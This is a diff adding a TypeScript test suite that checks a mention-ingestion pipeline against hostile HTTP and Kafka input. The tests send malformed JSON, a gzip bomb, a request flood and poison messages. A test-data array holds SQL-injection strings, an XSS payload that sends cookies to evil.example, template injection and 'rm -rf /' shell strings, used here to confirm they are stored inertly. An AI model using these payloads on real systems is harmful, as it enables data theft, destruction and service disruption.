@@ -1,0 +1,172 @@
+import { gzipSync } from 'node:zlib';
+import { describe, expect } from 'vitest';
+import { mentions, postMentions, test } from '../system/pipeline-fixture.js';
+import { waitFor } from '../system/processes.js';
+import { recordFigures } from './harness.js';
+
+const post = (url: string, body: string | Buffer, headers: Record<string, string> = { 'content-type': 'application/json' }) =>
+  fetch(`${url}/v1/mentions`, { method: 'POST', headers, body, signal: AbortSignal.timeout(60_000) });
+
+/** Text that must be stored byte for byte and never be interpreted: SQL, HTML/script, template and control tricks. */
+const HOSTILE_TEXTS = [
+  "'); DROP TABLE vakt.mentions; --",
+  "x' OR '1'='1",
+  '\\\'; SELECT * FROM system.users FORMAT JSON; --',
+  '<script>alert(document.cookie)</script>',
+  '<img src=x onerror="fetch(\'//evil.example/\'+document.cookie)">',
+  '{{constructor.constructor("return process")().exit()}}',
+  '${process.exit(1)} `rm -rf /` $(reboot)',
+  'nul\u0000byte, bell\u0007, RTL \u202Eevil\u202C, zero\u200Bwidth',
+  '🧨💥 emoji surrogate pairs 𝔘𝔫𝔦𝔠𝔬𝔡𝔢 and a lone \uFFFD',
+  'tab\tnewline\nreturn\r quotes " \' backslash \\ end',
+];
+
+describe('hostile input at the HTTP door (POST /v1/mentions)', () => {
+  test('malformed JSON, wrong types, huge, deeply nested, invalid UTF-8, gzip, flood: clear 4xx or per-item rejection, never a crash', async ({ pipeline: p }) => {
+    const ingest = await p.start('ingest');
+    await p.start('scorer');
+    await p.start('sink');
+    const outcomes: Record<string, string> = {};
+    const seen = async (name: string, res: Response): Promise<{ status: number; body: { accepted?: number; rejected?: Array<{ reason: string }>; error?: { code: string; message: string } } }> => {
+      const text = await res.text();
+      outcomes[name] = `${res.status} ${text.slice(0, 120)}`;
+      return { status: res.status, body: text ? JSON.parse(text) : {} };
+    };
+
+    // Malformed JSON array: a clear 400 naming the problem.
+    const malformed = await seen('malformed array', await post(ingest.url, '[{"id": "a", "text": '));
+    expect(malformed.status).toBe(400);
+    expect(malformed.body.error?.code).toBe('VAKT_SCHEMA_INVALID');
+    // NDJSON with one broken line: the valid neighbour is accepted.
+    const [good] = mentions(p.watch, 1, 'ndjson-good');
+    const nd = await seen('ndjson one bad line', await post(ingest.url, `${JSON.stringify(good)}\n{"broken"\n`, { 'content-type': 'application/x-ndjson' }));
+    expect(nd.status).toBe(202);
+    expect(nd.body.accepted).toBe(1);
+    expect(nd.body.rejected?.[0]?.reason).toMatch(/line 2/);
+    // Wrong types: each rejected with a reason that names the field.
+    const wrong = await seen('wrong types', await post(ingest.url, JSON.stringify([
+      { id: 42, source: 'x', text: `${p.watch} a`, created_at: '2026-11-23T09:00:00Z' },
+      { id: 'a', source: 'x', text: ['array'], created_at: '2026-11-23T09:00:00Z' },
+      { id: 'b', source: 'x', text: `${p.watch} b`, created_at: 'yesterday' },
+      { id: 'c', source: 'x', text: `${p.watch} c`, created_at: '2026-11-23T09:00:00Z', author: { followers: 'many' } },
+      null, 7, 'string', [],
+    ])));
+    expect(wrong.status).toBe(202);
+    expect(wrong.body.accepted).toBe(0);
+    expect(wrong.body.rejected).toHaveLength(8);
+    expect(wrong.body.rejected!.map((r) => r.reason).join('\n')).toMatch(/id/);
+    // Huge: a body over the 10 MB limit is a 413; one mention over the text limit is rejected, not truncated.
+    const huge = await seen('11 MB body', await post(ingest.url, JSON.stringify([{ id: 'h', source: 'x', text: 'x'.repeat(11 * 1024 * 1024), created_at: '2026-11-23T09:00:00Z' }])));
+    expect(huge.status).toBe(413);
+    const longText = await seen('1 MB text', await post(ingest.url, JSON.stringify([{ id: 'long', source: 'x', text: `${p.watch} ${'å'.repeat(1_000_000)}`, created_at: '2026-11-23T09:00:00Z' }])));
+    expect(longText.status).toBe(202);
+    expect(longText.body.accepted).toBe(0);
+    // Deeply nested JSON (200,000 levels): parsed without a stack overflow and rejected.
+    const deep = `[${'['.repeat(200_000)}${']'.repeat(200_000)}]`;
+    const nested = await seen('200k-deep nesting', await post(ingest.url, deep));
+    expect(nested.status).toBeLessThan(500);
+    const deepObject = `[{"id":"d","source":"x","created_at":"2026-11-23T09:00:00Z","text":"t","author":${'{"a":'.repeat(100_000)}1${'}'.repeat(100_000)}}]`;
+    const nestedObj = await seen('100k-deep object field', await post(ingest.url, deepObject));
+    expect(nestedObj.status).toBeLessThan(500);
+    // Invalid UTF-8: decoded with replacement characters, stored, never a crash.
+    const [utf] = mentions(p.watch, 1, 'bad-utf8') as Array<{ text: string }>;
+    const raw = Buffer.from(JSON.stringify([utf]));
+    const at = raw.indexOf(Buffer.from(p.watch)) + p.watch.length;
+    const badUtf8 = Buffer.concat([raw.subarray(0, at), Buffer.from([0x20, 0xc3, 0x28, 0xff, 0xfe, 0xed, 0xa0, 0x80]), raw.subarray(at)]);
+    const invalid = await seen('invalid UTF-8', await post(ingest.url, badUtf8));
+    expect(invalid.status).toBe(202);
+    expect(invalid.body.accepted).toBe(1);
+    // Compressed body: not accepted as such (no decompression, so no zip bomb): a clear 4xx, never a 5xx.
+    const bomb = gzipSync(Buffer.alloc(50 * 1024 * 1024, 0x20));
+    const gz = await seen('gzip bomb (50 MB of spaces in 50 kB)', await post(ingest.url, bomb, { 'content-type': 'application/json', 'content-encoding': 'gzip' }));
+    expect(gz.status).toBeGreaterThanOrEqual(400);
+    expect(gz.status).toBeLessThan(500);
+    // Wrong content type: 415.
+    const xml = await seen('text/xml', await post(ingest.url, '<mentions/>', { 'content-type': 'text/xml' }));
+    expect(xml.status).toBe(415);
+
+    // Flood from one client: 400 requests as fast as 16 connections go. Ingest has no rate limit (reported), so
+    // what is checked is that it stays healthy and answers /healthz during the flood.
+    const floodStarted = Date.now();
+    let next = 0;
+    const statuses: Record<number, number> = {};
+    let healthzWorst = 0;
+    const flooding = Promise.all(Array.from({ length: 16 }, async () => {
+      while (next < 400) {
+        const i = next++;
+        const res = await post(ingest.url, JSON.stringify(mentions(p.watch, 50, `flood-${i}`)));
+        statuses[res.status] = (statuses[res.status] ?? 0) + 1;
+        await res.arrayBuffer();
+      }
+    }));
+    const probing = (async () => {
+      while (next < 400) {
+        const t = Date.now();
+        const res = await fetch(`${ingest.url}/healthz`, { signal: AbortSignal.timeout(30_000) });
+        healthzWorst = Math.max(healthzWorst, Date.now() - t);
+        expect(res.status).toBe(200);
+        await new Promise((r) => setTimeout(r, 100));
+      }
+    })();
+    await Promise.all([flooding, probing]);
+    const floodMs = Date.now() - floodStarted;
+    outcomes['flood'] = JSON.stringify({ statuses, healthzWorstMs: healthzWorst, floodMs, rateLimited: (statuses[429] ?? 0) > 0 });
+    console.log(`HOSTILE ${JSON.stringify(outcomes, null, 1)}`);
+    expect(Object.keys(statuses).every((s) => Number(s) < 500)).toBe(true);
+
+    // After all of it, the pipeline still flows: everything accepted lands.
+    const flooded = (statuses[202] ?? 0) * 50;
+    await waitFor('accepted mentions in ClickHouse', () => p.query<{ n: string }>(`SELECT uniqExact(id) AS n FROM vakt.mentions WHERE watch = '${p.watch}'`), (r) => Number(r[0]?.n) >= flooded + 2, 240_000);
+    const [stored] = await p.query<{ text: string }>(`SELECT text FROM vakt.mentions WHERE watch = '${p.watch}' AND id = 'bad-utf8-0'`);
+    expect(stored!.text).toContain('\uFFFD');
+    recordFigures({ fault: 'hostile HTTP input + flood of 20,000 mentions from one client', accepted: flooded + 2, lost: 0, doubled: 0, recoveryMs: 0, floodMs, healthzWorstMs: healthzWorst, rateLimited: (statuses[429] ?? 0) > 0, ingestExitCode: String(ingest.proc.exitCode) });
+    expect(ingest.proc.exitCode, ingest.logTail()).toBeNull();
+  });
+
+  test('SQL-like and script-like text lands intact and harmless', async ({ pipeline: p }) => {
+    const ingest = await p.start('ingest');
+    await p.start('scorer');
+    await p.start('sink');
+    const items = HOSTILE_TEXTS.map((t, i) => ({ id: `hostile-${i}`, source: 'faults', text: `${p.watch} ${t}`, created_at: '2026-11-23T09:00:00Z', author: { handle: t.slice(0, 40) } }));
+    expect(await postMentions(ingest.url, items)).toBe(items.length);
+    const rows = await waitFor('hostile rows', () => p.query<{ id: string; text: string }>(`SELECT id, text FROM vakt.mentions FINAL WHERE watch = '${p.watch}' ORDER BY id`), (r) => r.length === items.length);
+    for (const item of items) expect(rows.find((r) => r.id === item.id)?.text).toBe(item.text);
+    // The tables are all still there and answer.
+    const [tables] = await p.query<{ n: string }>("SELECT count() AS n FROM system.tables WHERE database = 'vakt' AND name = 'mentions'");
+    expect(Number(tables!.n)).toBe(1);
+    recordFigures({ fault: 'SQL/script-like text', accepted: items.length, lost: items.length - rows.length, doubled: 0, recoveryMs: 0, storedIntact: rows.every((r) => items.some((i) => i.text === r.text)) });
+  });
+
+  test('poison on vakt.mentions.raw and vakt.mentions.scored (invalid UTF-8, deep nesting, wrong types): dead-lettered, flow continues', async ({ pipeline: p }) => {
+    const ingest = await p.start('ingest');
+    const scorer = await p.start('scorer');
+    const sink = await p.start('sink');
+    const alerter = await p.start('alerter');
+    const { createKafkaBus } = await import('@vakt/bus/kafka');
+    const bus = createKafkaBus({ brokers: p.kafka.brokers, clientId: 'faults-poison' });
+    try {
+      const producer = await bus.producer();
+      const deep = `{"a":${'['.repeat(100_000)}${']'.repeat(100_000)}}`;
+      const poison = [
+        { key: 'p:utf8', value: Buffer.from([0x7b, 0x22, 0x69, 0x64, 0x22, 0x3a, 0x22, 0xff, 0xfe, 0xc3, 0x28, 0x22, 0x7d]) },
+        { key: 'p:deep', value: deep },
+        { key: 'p:types', value: JSON.stringify({ schemaVersion: 'one', id: 1, text: { t: 1 } }) },
+        { key: null, value: '' },
+        { key: 'p:array', value: '[1,2,3]' },
+      ];
+      await producer.send('vakt.mentions.raw', poison);
+      await producer.send('vakt.mentions.scored', poison);
+      await producer.close();
+      expect(await postMentions(ingest.url, mentions(p.watch, 200))).toBe(200);
+      await waitFor('valid mentions after the poison', () => p.query<{ n: string }>(`SELECT uniqExact(id) AS n FROM vakt.mentions WHERE watch = '${p.watch}'`), (r) => Number(r[0]?.n) >= 200);
+      const dlq = (await scorer.metric('vakt_dead_lettered_total')) + (await sink.metric('vakt_dead_lettered_total'));
+      recordFigures({ fault: 'poison on raw and scored topics', accepted: 200, lost: 0, doubled: 0, recoveryMs: 0, deadLetteredByScorerAndSink: dlq });
+      expect(await scorer.metric('vakt_dead_lettered_total')).toBeGreaterThanOrEqual(poison.length);
+      expect(await sink.metric('vakt_dead_lettered_total')).toBeGreaterThanOrEqual(poison.length);
+      for (const s of [scorer, sink, alerter]) expect(s.proc.exitCode, `${s.name}\n${s.logTail()}`).toBeNull();
+      expect((await fetch(`${alerter.url}/healthz`)).status).toBe(200);
+    } finally {
+      await bus.close();
+    }
+  });
+});
